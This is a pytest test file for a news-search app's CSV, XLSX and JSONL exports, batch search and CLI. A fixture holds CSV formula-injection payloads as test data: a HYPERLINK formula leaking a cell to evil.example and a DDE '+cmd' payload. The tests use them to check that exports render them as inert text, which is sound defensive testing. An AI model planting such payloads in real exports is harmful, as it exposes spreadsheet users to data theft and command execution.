"""Exports and batch search: files read back with csv/json/openpyxl against the API, formula
safety, accents, limits, batch rows, the CLI, and streaming over a real HTTP server."""
from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import random
import re
import zipfile

import openpyxl
import pytest
import requests
from openpyxl.cell.rich_text import CellRichText, TextBlock

from indexer.cli import main
from indexer.config import load_config
from indexer.export.plan import plan_export
from indexer.export.rows import COLUMNS, RowBuilder
from indexer.index.build import build_index
from indexer.models import Filters
from indexer.search.fusion import fuse, single
from webapp import create_app

from conftest import write_config

HIT_COLUMNS = ("rank", "score", "matched_by", "doc_id", "passage_id", "title", "source", "kind",
               "published", "language", "section", "text")
BOM = b"\xef\xbb\xbf"


def api_hits(client, **params) -> list[dict]:
    """Every passage of a search, page by page, from /api/search."""
    hits, page = [], 1
    while True:
        body = client.get("/api/search", query_string={"group": "passage", **params,
                                                       "page": page, "per_page": 100}).get_json()
        hits += body["hits"]
        if len(hits) >= body["total"] or not body["hits"]:
            return hits
        page += 1


def marked(snippet_html: str) -> str:
    return html.unescape(snippet_html.replace("<mark>", "[[").replace("</mark>", "]]"))


def read_csv(data: bytes) -> list[dict]:
    assert data.startswith(BOM)
    return list(csv.DictReader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def xlsx_text(value) -> str:
    if isinstance(value, CellRichText):
        return "".join(f"[[{part.text}]]" if isinstance(part, TextBlock) and part.font.b
                       else str(part) for part in value)
    return "" if value is None else value


def read_xlsx(data: bytes) -> tuple[list[dict], dict]:
    book = openpyxl.load_workbook(io.BytesIO(data), rich_text=True)
    sheet = book["hits"]
    header = [c.value for c in sheet[1]]
    rows = []
    for cells in sheet.iter_rows(min_row=2):
        row = {}
        for name, cell in zip(header, cells):
            value = xlsx_text(cell.value) if name not in ("rank", "score") else cell.value
            if name == "snippet" and isinstance(cell.value, str) and cell.font.b:
                value = f"[[{cell.value}]]"  # a snippet that is one matched term
            row[name] = value
        rows.append(row)
    summary = {k.value: v.value for k, v in book["export"].iter_rows()}
    return rows, summary


def read_jsonl(data: bytes) -> tuple[list[dict], dict]:
    lines = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    assert set(lines[-1]) == {"summary"}
    return lines[:-1], lines[-1]["summary"]


def check_permalink(row: dict, query: str):
    ordinal = row["passage_id"].rsplit(".p", 1)[1]
    assert row["permalink"] == (f"http://localhost/doc/{row['doc_id']}?"
                                f"q={requests.utils.quote(query)}&p={ordinal}#p{ordinal}")


@pytest.fixture(scope="module")
def many(app):
    """A keyword search with hundreds of hits, as the API pages it out."""
    hits = api_hits(app.test_client(), q="leapmotor", mode="keyword")
    assert len(hits) > 200
    return hits


def test_csv_export_gives_the_api_rows(client, many):
    r = client.get("/api/export", query_string={"q": "leapmotor", "mode": "keyword",
                                                "format": "csv"})
    assert r.status_code == 200 and r.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(r.data)
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == len(many) == int(r.headers["X-Export-Rows"])
    for row, hit in zip(rows, many):
        for name in HIT_COLUMNS:
            assert row[name] == str(hit[name]), name
        assert row["snippet"] == marked(hit["snippet"])
        assert row["query"] == "leapmotor"
        # the reader's language (config default: en) as on the page: Italian rows translated
        translated = row["language"] != "en"
        assert bool(row["translated_snippet"]) == translated
        assert row["translation_language"] == ("en" if translated else "")
        check_permalink(row, "leapmotor")
    assert any("[[Leapmotor]]" in row["snippet"] for row in rows)
    assert len({row["exported_at"] for row in rows}) == 1
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", rows[0]["exported_at"])


def test_xlsx_export_gives_the_api_rows_with_bold_terms(client, many):
    r = client.get("/api/export?q=leapmotor&mode=keyword&format=xlsx")
    assert r.status_code == 200 and r.headers["Content-Disposition"].endswith('.xlsx"')
    rows, summary = read_xlsx(r.data)
    assert len(rows) == len(many)
    for row, hit in zip(rows, many):
        for name in HIT_COLUMNS:
            assert row[name] == hit[name], name
        assert row["snippet"] == marked(hit["snippet"])
        check_permalink(row, "leapmotor")
    assert summary["rows"] == str(len(many)) and summary["truncated"] == "false"


def test_hybrid_export_depth(config, embedder, client):
    """At [export] depth = [search] candidates a hybrid export is exactly the page's list;
    at the default depth it holds more of each retriever's hits."""
    same = dataclasses.replace(config, export=dataclasses.replace(
        config.export, depth=config.search.candidates, batch_rows=7))
    same_client = create_app(same, embedder=embedder).test_client()
    # Page 1 only: the page ranks deeper for later pages (depth = page * per_page).
    page = same_client.get("/api/search?q=leapmotor&mode=hybrid&per_page=100&group=passage"
                           ).get_json()
    hits = page["hits"]
    rows, summary = read_jsonl(same_client.get(
        "/api/export?q=leapmotor&mode=hybrid&format=jsonl").data)
    assert {h["matched_by"] for h in hits} == {"keyword", "semantic", "both"}
    assert len(rows) == page["total"] == summary["rows"] == summary["total"] > len(hits)
    for row, hit in zip(rows, hits):
        assert {k: row[k] for k in HIT_COLUMNS} == {k: hit[k] for k in HIT_COLUMNS}
        assert row["snippet"] == marked(hit["snippet"])
    deeper, _ = read_jsonl(client.get("/api/export?q=leapmotor&mode=hybrid&format=jsonl").data)
    keyword_total = client.get("/api/search?q=leapmotor&mode=keyword").get_json()[
        "total_passages"]
    assert sum(row["matched_by"] != "semantic" for row in deeper) == keyword_total > len(hits)


def test_filters_apply_and_are_reported(client):
    r = client.get("/api/export?q=leapmotor&lang=it&mode=keyword&format=jsonl")
    rows, summary = read_jsonl(r.data)
    assert rows and {row["language"] for row in rows} == {"it"}
    assert summary["filters"]["languages"] == ["it"] and summary["rows"] == len(rows)
    header = json.loads(r.headers["X-Export-Summary"])
    assert header["filters"]["languages"] == ["it"] and header["total"] == len(rows)


def test_bad_export_parameters_are_400(client):
    for query in ("q=leapmotor&format=pdf", "q=&format=csv", "q=leapmotor&limit=0",
                  "q=leapmotor&limit=abc", "q=leapmotor&lang=ro"):
        r = client.get(f"/api/export?{query}")
        assert r.status_code == 400 and r.get_json()["error"], query


def test_export_larger_than_the_maximum_says_so(config, embedder, tmp_path, capsys):
    small = dataclasses.replace(config, export=dataclasses.replace(config.export, max_rows=50))
    client = create_app(small, embedder=embedder).test_client()
    r = client.get("/api/export?q=leapmotor&mode=keyword&format=csv")
    assert r.status_code == 422
    body = r.get_json()
    assert body["total"] > 50 and body["max_rows"] == 50
    assert f"matches {body['total']:,} passages" in body["error"] and "limit=50" in body["error"]

    r = client.get("/api/export?q=leapmotor&mode=keyword&format=jsonl&limit=50")
    rows, summary = read_jsonl(r.data)
    assert len(rows) == 50 and [row["rank"] for row in rows] == list(range(1, 51))
    assert summary["truncated"] is True and summary["total"] == body["total"]
    assert r.headers["X-Export-Truncated"] == "true" and r.headers["X-Export-Rows"] == "50"
    assert client.get("/api/export?q=leapmotor&mode=keyword&limit=51").status_code == 400

    page = client.get("/?q=leapmotor&mode=keyword").get_data(as_text=True)
    assert "download the first 50" in page and "limit=50" in page

    cfg = write_config(tmp_path, [], index={"path": str(config.index_path)},
                       export={"max_rows": 50})
    out = tmp_path / "hits.csv"
    assert main(["--config", str(cfg), "export", "leapmotor", "--mode", "keyword",
                 "-o", str(out)]) == 2
    assert "an export holds at most 50 rows" in capsys.readouterr().err
    assert list(tmp_path.glob("*hits.csv*")) == []  # no file, not even a partial one


HOSTILE = {
    "formula.txt": ("Formula cell", '=HYPERLINK("http://evil.example/?leak="&A1,"zanzibar '
                                    'report") is how the zanzibar leak began.'),
    "plus.txt": ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0 opened a shell in the zanzibar "
                                        "test."),
    "minus.txt": ("-2+3", "-2+3 is what the zanzibar spreadsheet computed."),
    "at.txt": ("@SUM(1+1)", "@SUM(1+1) appears in the zanzibar notes."),
    "accents.txt": ("Perché l'università è già più città",
                    "Perché l'università di Zanzibar è già più città: caffè, né così, "
                    "àèéìòù ÀÈÉÌÒÙ «virgolette» — perciò."),
}


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory, embedder):
    """An index of documents (and titles) that start like spreadsheet formulas, and accents."""
    tmp = tmp_path_factory.mktemp("hostile-export")
    corpus = tmp / "corpus"
    corpus.mkdir()
    manifest = []
    for name, (title, text) in HOSTILE.items():
        (corpus / name).write_text(text + "\n", encoding="utf-8")
        manifest.append(f"[[document]]\nfile = {json.dumps(name)}\ntitle = {json.dumps(title)}\n"
                        f"published = \"2024-03-01\"\n")
    (corpus / "manifest.toml").write_text("\n".join(manifest), encoding="utf-8")
    cfg = load_config(write_config(tmp, [corpus]))
    build_index(cfg, embedder=embedder, progress=False)
    return create_app(cfg, embedder=embedder).test_client()


def test_formulas_export_as_inert_text(hostile_client):
    csv_rows = read_csv(hostile_client.get("/api/export?q=zanzibar&mode=keyword").data)
    api = api_hits(hostile_client, q="zanzibar", mode="keyword")
    assert len(csv_rows) == len(api) == len(HOSTILE)
    for row, hit in zip(csv_rows, api):
        for name in ("title", "text"):
            value = hit[name]
            if value[0] in "=+-@":
                assert row[name] == "'" + value  # OWASP: a leading quote makes it text
            else:
                assert row[name] == value
    assert sum(row["text"].startswith("'") for row in csv_rows) == 4

    data = hostile_client.get("/api/export?q=zanzibar&mode=keyword&format=xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["hits"]
    header = [c.value for c in sheet[1]]
    texts = {}
    for cells in sheet.iter_rows(min_row=2):
        row = dict(zip(header, cells))
        assert row["text"].data_type == "s" and row["title"].data_type == "s"
        texts[row["title"].value] = row["text"].value
    assert texts == {title: text for title, text in HOSTILE.values()}  # unchanged, as strings
    assert not sheet.parent.defined_names and not sheet._hyperlinks


def test_italian_accents_round_trip(hostile_client):
    title, text = HOSTILE["accents.txt"]
    params = {"q": "università", "mode": "keyword"}
    r = hostile_client.get("/api/export", query_string={**params, "format": "csv"})
    assert 'filename="newsdesk-universita-' in r.headers["Content-Disposition"]
    [row] = read_csv(r.data)
    assert (row["title"], row["text"], row["query"]) == (title, text, "università")
    assert "[[università]]" in row["snippet"]
    assert "q=universit%C3%A0" in row["permalink"]
    [row], _ = read_jsonl(hostile_client.get("/api/export", query_string={
        **params, "format": "jsonl"}).data)
    assert (row["title"], row["text"]) == (title, text)
    [row], summary = read_xlsx(hostile_client.get("/api/export", query_string={
        **params, "format": "xlsx"}).data)
    assert (row["title"], row["text"], summary["query"]) == (title, text, "università")


def test_batch_search_three_queries_one_without_hits(client):
    queries = "leapmotor\n\nveicoli elettrici\nzxqvw nonesuch\n"
    r = client.post("/api/batch", data={
        "queries": (io.BytesIO(queries.encode()), "my queries.txt"),
        "mode": "keyword", "top": "3", "format": "csv"}, content_type="multipart/form-data")
    assert r.status_code == 200
    assert 'filename="newsdesk-batch-my-queries-' in r.headers["Content-Disposition"]
    rows = read_csv(r.data)
    expected = []
    for query in ("leapmotor", "veicoli elettrici"):
        top = client.get("/api/search", query_string={"q": query, "mode": "keyword",
                                                      "per_page": 3, "group": "passage"}
                         ).get_json()["hits"]
        assert top
        expected += [(query, str(h["rank"]), h["passage_id"], marked(h["snippet"]))
                     for h in top]
    expected.append(("zxqvw nonesuch", "", "", ""))
    assert [(r["query"], r["rank"], r["passage_id"], r["snippet"]) for r in rows] == expected
    assert rows[-1]["matched_by"] == "none"

    r = client.post("/api/batch", data={"queries_text": queries, "mode": "keyword",
                                        "top": "3", "format": "jsonl"})
    rows_json, summary = read_jsonl(r.data)
    assert [row["query"] for row in rows_json] == [row["query"] for row in rows]
    assert [q["rows"] for q in summary["per_query"]] == [3, len(expected) - 4, 0]
    assert summary["queries"] == 3 and summary["rows"] == len(rows)


def test_batch_reads_a_csv_with_a_query_column(client):
    data = "id;query;note\n1;leapmotor;a\n2;\"stellantis; acquisition\";b\n".encode("utf-8-sig")
    r = client.post("/api/batch", data={"queries": (io.BytesIO(data), "q.csv"), "top": "2",
                                        "mode": "keyword", "format": "xlsx"})
    rows, summary = read_xlsx(r.data)
    assert [row["query"] for row in rows] == ["leapmotor"] * 2 + ["stellantis; acquisition"] * 2
    assert summary["queries"] == "2"


def test_bad_batch_input_is_refused_clearly(client):
    def post(**data):
        return client.post("/api/batch", data={"format": "csv", **data})
    r = post(queries_text="")
    assert r.status_code == 400 and "no queries found" in r.get_json()["error"]
    r = post(queries_text="\n".join(f"q{i}" for i in range(201)))
    assert r.status_code == 400 and "at most 200" in r.get_json()["error"]
    r = post(queries=(io.BytesIO("caff\xe8".encode("latin-1")), "q.txt"))
    assert r.status_code == 400 and "UTF-8" in r.get_json()["error"]
    r = post(queries_text="leapmotor", top="1000")
    assert r.status_code == 400 and "top" in r.get_json()["error"]
    r = post(queries=(io.BytesIO(b"leapmotor\n" * 200_000), "big.txt"))
    assert r.status_code == 413
    page = client.post("/batch", data={"queries_text": ""})
    assert page.status_code == 400 and "text/html" in page.headers["Content-Type"]


def test_pages_offer_downloads_without_javascript(client):
    page = client.get("/?q=leapmotor&mode=keyword&lang=en").get_data(as_text=True)
    links = re.findall(r'href="(/api/export\?[^"]+)" download', page)
    assert len(links) == 3 and "<script" not in page
    for link in links:
        r = client.get(html.unescape(link))
        assert r.status_code == 200 and r.headers["X-Export-Total"] == r.headers["X-Export-Rows"]
        assert json.loads(r.headers["X-Export-Summary"])["filters"]["languages"] == ["en"]
    form = client.get("/batch").get_data(as_text=True)
    assert 'action="/batch"' in form and 'enctype="multipart/form-data"' in form
    assert "<script" not in form
    r = client.post("/batch", data={"queries_text": "leapmotor", "format": "csv", "top": "2"})
    assert r.status_code == 200 and len(read_csv(r.data)) == 2


def test_cli_export_and_batch(config, tmp_path, capsys):
    cfg = write_config(tmp_path, [], index={"path": str(config.index_path)})
    out = tmp_path / "leap.xlsx"
    assert main(["--config", str(cfg), "export", "leapmotor", "--mode", "keyword", "--lang",
                 "it", "-o", str(out), "--base-url", "https://desk.example/"]) == 0
    assert "Exported all" in capsys.readouterr().err
    rows, summary = read_xlsx(out.read_bytes())
    assert rows and {row["language"] for row in rows} == {"it"}
    assert rows[0]["permalink"].startswith("https://desk.example/doc/")
    queries = tmp_path / "queries.txt"
    queries.write_text("leapmotor\nzxqvw nonesuch\n", encoding="utf-8")
    out = tmp_path / "batch.jsonl"
    assert main(["--config", str(cfg), "batch", str(queries), "--top", "2", "--mode",
                 "keyword", "-o", str(out)]) == 0
    rows, summary = read_jsonl(out.read_bytes())
    assert [row["matched_by"] for row in rows][-1] == "none" and len(rows) == 3
    assert "1 without hits" in capsys.readouterr().err


def test_translation_callable_fills_the_translation_columns(app):
    """The seam for the translation feature: one call per source language, others left empty."""
    calls = []

    def translate(texts, source, target):
        calls.append((len(texts), source, target))
        return [f"<{source}->{target}> {t}" for t in texts]

    with app.app_context():
        from webapp.state import searcher
        plan = plan_export(searcher(), "leapmotor", "keyword", Filters())
        builder = RowBuilder("http://x/", translate=translate, target_language="en")
        rows = [row for batch in plan.row_batches(builder) for row in batch]
    italian = [r.values for r in rows if r.values["language"] == "it"]
    english = [r.values for r in rows if r.values["language"] == "en"]
    assert italian and english
    # one call per source language per streamed batch, never one per row
    assert {(src, dst) for _, src, dst in calls} == {("it", "en")}
    assert sum(n for n, _, _ in calls) == len(italian) and len(calls) <= len(rows) // 200 + 1
    for values in italian:
        plain = values["snippet"].replace("[[", "").replace("]]", "")
        assert values["translated_snippet"] == f"<it->en> {plain}"
        assert values["translation_language"] == "en"
    assert all(v["translated_snippet"] == v["translation_language"] == "" for v in english)


def test_streamed_windows_equal_the_whole_list():
    """A keyword export scored a window at a time matches the page's single-list ranking."""
    rng = random.Random(7)
    hits = sorted(((f"p{i}", rng.uniform(0.5, 30.0)) for i in range(300)), key=lambda h: -h[1])
    for method in ("rrf", "weighted"):
        whole = fuse({"keyword": hits}, method, 60, 0.3)
        windows = [f for start in range(0, 300, 64)
                   for f in single(hits[start:start + 64], "keyword", start + 1)]
        assert [(f.row, f.score, f.ranks) for f in whole] == \
            [(f.row, f.score, f.ranks) for f in windows]
        assert [f.score for f in whole] == [score for _, score in hits]


def test_export_streams_over_http(live_server):
    with requests.get(f"{live_server}/api/export", params={
            "q": "leapmotor stellantis", "mode": "keyword", "format": "csv"},
            stream=True, timeout=60) as r:
        assert r.status_code == 200
        assert r.headers["Transfer-Encoding"] == "chunked" and "Content-Length" not in r.headers
        chunks = list(r.iter_content(chunk_size=None))
    rows = read_csv(b"".join(chunks))
    disposition = r.headers["Content-Disposition"]
    date = rows[0]["exported_at"][:10]
    assert disposition == f'attachment; filename="newsdesk-leapmotor-stellantis-{date}.csv"'
    assert len(rows) == int(r.headers["X-Export-Total"]) > 200
    assert rows[0]["permalink"].startswith(f"{live_server}/doc/")
    page = requests.get(rows[0]["permalink"], timeout=30)
    assert page.status_code == 200 and f'id="p{rows[0]["passage_id"].rsplit(".p", 1)[1]}"' \
        in page.text

    r = requests.get(f"{live_server}/api/export", params={
        "q": "leapmotor", "mode": "hybrid", "format": "xlsx"}, timeout=120)
    assert r.headers["Transfer-Encoding"] == "chunked"
    rows, summary = read_xlsx(r.content)
    assert len(rows) == int(summary["rows"]) == int(r.headers["X-Export-Total"])
    assert json.loads(r.headers["X-Export-Summary"])["mode"] == "hybrid"


def test_search_without_hits_exports_just_the_header(client):
    assert read_csv(client.get("/api/export?q=zxqvw+nonesuch&mode=keyword").data) == []
    rows, summary = read_jsonl(client.get("/api/export?q=zxqvw+nonesuch&mode=keyword"
                                          "&format=jsonl").data)
    assert rows == [] and (summary["rows"], summary["total"], summary["truncated"]) == (0, 0, False)
    rows, summary = read_xlsx(client.get("/api/export?q=zxqvw+nonesuch&format=xlsx").data)
    assert rows == [] and summary["rows"] == "0"


@pytest.mark.parametrize("mode", ["keyword", "hybrid"])
def test_export_is_in_the_order_of_the_sort(client, mode):
    """Newest or oldest first, as on the page: the whole export, undated documents last (in
    keyword mode the page's very list; hybrid exports rank deeper, `[export] depth`)."""
    for sort, newest in (("newest", True), ("oldest", False)):
        rows = read_csv(client.get("/api/export", query_string={
            "q": "leapmotor", "mode": mode, "format": "csv", "sort": sort}).data)
        if mode == "keyword":
            assert [row["passage_id"] for row in rows] == [
                h["passage_id"] for h in api_hits(client, q="leapmotor", mode=mode, sort=sort)]
        dated = [row["published"] for row in rows if row["published"]]
        assert [row["published"] for row in rows][:len(dated)] == dated  # undated last
        assert dated == sorted(dated, reverse=newest) and len(set(dated)) == 4
    page = client.get(f"/?q=leapmotor&mode={mode}&sort=newest").get_data(as_text=True)
    links = re.findall(r'href="(/api/export\?[^"]+)" download', page)
    assert links and all("sort=newest" in html.unescape(link) for link in links)


def test_export_rows_are_passages_unless_grouped_by_document(client, many):
    passages = read_csv(client.get("/api/export?q=leapmotor&mode=keyword&group=passage").data)
    assert [row["passage_id"] for row in passages] == [h["passage_id"] for h in many]
    r = client.get("/api/export?q=leapmotor&mode=keyword&group=document&format=jsonl")
    rows, summary = read_jsonl(r.data)
    documents = client.get("/api/search?q=leapmotor&mode=keyword").get_json()["hits"]
    assert [(row["doc_id"], row["passage_id"], row["rank"]) for row in rows] == [
        (h["doc_id"], h["passage_id"], h["rank"]) for h in documents]
    assert summary["group"] == "document" and summary["total"] == len(rows) == 6
    assert client.get("/api/export?q=leapmotor&group=foo").status_code == 400
